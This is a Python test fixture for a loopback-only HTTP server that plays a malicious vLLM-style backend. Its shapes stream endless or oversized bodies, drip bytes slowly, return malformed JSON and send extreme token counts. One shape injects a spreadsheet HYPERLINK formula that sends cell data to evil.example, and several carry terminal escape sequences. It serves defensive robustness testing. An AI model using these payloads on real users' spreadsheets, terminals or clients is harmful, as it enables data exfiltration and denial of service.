"""A hostile HTTP server for tests: loopback only, bounded lifetime, one hostile shape per instance.

Each shape is what a broken or malicious server (or a proxy in front of one) can send to the app:
endless or oversized streams, bodies that drip, JSON of the wrong shape. Good answers, where a shape
needs some (``good_posts``), replay the recorded vLLM stream ``tests/fixtures/sse/chat_length.sse``.
The server stops by itself after ``lifetime_s`` even if a test forgets it, and every endless answer
ends then too, so no test can hang on it.
"""

from __future__ import annotations

import contextlib
import http.server
import json
import time
from collections.abc import Iterator
from pathlib import Path

from tests.support.loopback_server import LoopbackServer

GOOD_STREAM = (Path(__file__).resolve().parents[1] / "fixtures" / "sse" / "chat_length.sse").read_bytes()

MIB = 1024 * 1024


def _chunk(content: object, *, delta: object = None) -> bytes:
    d = {"content": content} if delta is None else delta
    obj = {"object": "chat.completion.chunk", "choices": [{"index": 0, "delta": d, "finish_reason": None}]}
    return b"data: " + json.dumps(obj).encode() + b"\n\n"


def _bad_stream(delta: object) -> bytes:
    return (
        _chunk("", delta={"role": "assistant", "content": ""}) + _chunk("", delta=delta) + b"data: [DONE]\n\n"
    )


# shape -> what POST /v1/chat/completions streams (an iterator of byte chunks), or None: a good stream
STREAM_SHAPES = (
    "no_blank_lines",  # data: lines for ever with no blank line between them
    "long_line",  # one 100 MB data: line
    "endless",  # well-formed content chunks for ever, never [DONE]
    "drip",  # one byte per second (every endpoint)
    "header_drip",  # the status line, then the headers one byte per second, never ending
    "silent",  # headers, one chunk, then nothing (cancel must still work)
    "delta_string",  # "delta": "hello"
    "content_number",  # "delta": {"content": 42}
    "chunk_list",  # data: [1, 2]
    "escapes",  # an error event whose message carries terminal escape sequences
    "tokens_negative",  # the good stream, its usage.completion_tokens -1000
    "tokens_huge",  # the good stream, its usage.completion_tokens 10**30
    "formula",  # the good stream, its finish_reason a spreadsheet formula with escape sequences
)
GET_SHAPES = (
    "big_metrics",  # a 500 MB /metrics body, chunked (no Content-Length to refuse early)
    "big_metrics_declared",  # a 500 MB /metrics body with its Content-Length
    "models_list",  # /v1/models answers a bare JSON list
    "models_string",  # /v1/models answers {"data": "tiny"}
    "header_drip_get",  # /metrics and /v1/models: headers one byte per second, never ending
    "many_series",  # /metrics with 147,000 series of a counter the app reads, under the size cap
)
SHAPES = STREAM_SHAPES + GET_SHAPES


class HostileServer(LoopbackServer):
    """``with HostileServer("drip") as s: … s.url …``: a server on 127.0.0.1 answering in ``shape``.

    The first ``good_posts`` chat requests get a good recorded stream (finished runs to keep), the
    rest the hostile one. ``/health`` answers 200 and ``/version`` a version, except in "drip".
    """

    def __init__(self, shape: str, *, good_posts: int = 0, lifetime_s: float = 60.0) -> None:
        if shape not in SHAPES:
            raise ValueError(f"unknown shape {shape!r}; known: {', '.join(SHAPES)}")
        self.shape = shape
        self.good_posts = good_posts
        self.posts = 0
        super().__init__(lifetime_s=lifetime_s)

    # ---- answers --------------------------------------------------------------------------------

    def _send(
        self, h: http.server.BaseHTTPRequestHandler, status: int, ctype: str, parts: Iterator[bytes]
    ) -> None:
        h.send_response(status)
        h.send_header("Content-Type", ctype)
        h.send_header("Transfer-Encoding", "chunked")
        h.end_headers()
        try:
            for part in parts:
                if not self._alive():
                    return  # the connection is dropped mid-body: a truncated answer
                if part:
                    h.wfile.write(b"%x\r\n%s\r\n" % (len(part), part))
                    h.wfile.flush()
            h.wfile.write(b"0\r\n\r\n")
        except OSError:
            pass  # the client gave up: what the app is meant to do
        h.close_connection = True

    def _drip(self, text: bytes) -> Iterator[bytes]:
        while True:
            for i in range(len(text)):
                yield text[i : i + 1]
                if self._stop.wait(1.0):
                    return

    def _header_drip(self, h: http.server.BaseHTTPRequestHandler) -> None:
        """Headers that never end, one byte a second: under any per-read timeout, for ever."""
        with contextlib.suppress(OSError):
            h.wfile.write(b"HTTP/1.1 200 OK\r\n")
            h.wfile.flush()
            for byte in self._drip(b"X-Slow: " + b"a" * 10_000):
                if not self._alive():
                    break
                h.wfile.write(byte)
                h.wfile.flush()
        h.close_connection = True

    def _get(self, h: http.server.BaseHTTPRequestHandler) -> None:
        path = h.path.split("?")[0]
        if self.shape == "header_drip_get" and path in ("/metrics", "/v1/models"):
            self._header_drip(h)
        elif self.shape == "drip":
            self._send(h, 200, "text/plain", self._drip(b'vllm:num_requests_running{model_name="m"} 0\n'))
        elif path == "/metrics" and self.shape in ("big_metrics", "big_metrics_declared"):
            line = b'vllm:num_requests_running{model_name="tiny",engine="0"} 1.0\n'
            block = line * (MIB // len(line))
            if self.shape == "big_metrics":
                self._send(h, 200, "text/plain", iter([block] * 500))
            else:
                h.send_response(200)
                h.send_header("Content-Type", "text/plain")
                h.send_header("Content-Length", str(len(block) * 500))
                h.end_headers()
                try:
                    for _ in range(500):
                        if not self._alive():
                            return
                        h.wfile.write(block)
                except OSError:
                    pass
                h.close_connection = True
        elif path == "/metrics" and self.shape == "many_series":
            lines = [
                b"# HELP vllm:generation_tokens_total Generation tokens.",
                b"# TYPE vllm:generation_tokens_total counter",
            ]
            lines += [
                b'vllm:generation_tokens_total{engine="%d",model_name="tiny"} 1.0' % i for i in range(147_000)
            ]
            self.reply(h, 200, b"\n".join(lines) + b"\n")
        elif path == "/v1/models" and self.shape == "models_list":
            self.reply(h, 200, b'[{"id": "tiny"}]')
        elif path == "/v1/models" and self.shape == "models_string":
            self.reply(h, 200, b'{"object": "list", "data": "tiny"}')
        elif path == "/v1/models":
            self.reply(h, 200, b'{"object": "list", "data": [{"id": "tiny", "object": "model"}]}')
        elif path == "/health":
            self.reply(h, 200, b"")
        elif path == "/version":
            self.reply(h, 200, b'{"version": "0.32.0"}')
        else:
            self.reply(h, 404, b'{"detail": "Not Found"}')

    def _post(self, h: http.server.BaseHTTPRequestHandler, body: bytes) -> None:
        self.posts += 1
        shape = self.shape if self.posts > self.good_posts else "good"
        if shape == "header_drip":
            self._header_drip(h)
            return
        self._send(h, 200, "text/event-stream", self._stream(shape))

    def _stream(self, shape: str) -> Iterator[bytes]:
        if shape == "good" or shape in GET_SHAPES:
            yield GOOD_STREAM
        elif shape == "no_blank_lines":
            line = b"data: " + b"x" * 1000 + b"\n"
            while True:
                yield line * 64
        elif shape == "long_line":
            yield b"data: "
            block = b"y" * MIB
            for _ in range(100):
                yield block
            yield b"\n\n"
        elif shape == "endless":
            chunk = _chunk("ant")
            while True:
                yield chunk
        elif shape == "drip":
            yield from self._drip(_chunk("ant"))
        elif shape == "silent":
            yield _chunk("", delta={"role": "assistant", "content": ""})
            self._stop.wait(self._ends_at - time.monotonic())
        elif shape == "delta_string":
            yield _bad_stream("hello")
        elif shape == "content_number":
            yield _bad_stream({"content": 42})
        elif shape == "chunk_list":
            yield b"data: [1, 2]\n\n"
        elif shape == "tokens_negative":
            yield GOOD_STREAM.replace(b'"completion_tokens":24', b'"completion_tokens":-1000')
        elif shape == "tokens_huge":
            yield GOOD_STREAM.replace(
                b'"completion_tokens":24', b'"completion_tokens":' + str(10**30).encode()
            )
        elif shape == "formula":
            evil = json.dumps('=HYPERLINK("http://evil.example/?"&A1,"ok")\x1b]0;pwned\x07\x1b[31m')
            yield GOOD_STREAM.replace(b'"finish_reason":"length"', b'"finish_reason":' + evil.encode())
        elif shape == "escapes":
            message = "model \x1b[2J\x1b]0;pwned\x07overloaded\x1b[31m"
            yield b"data: " + json.dumps({"error": {"message": message}}).encode() + b"\n\n"
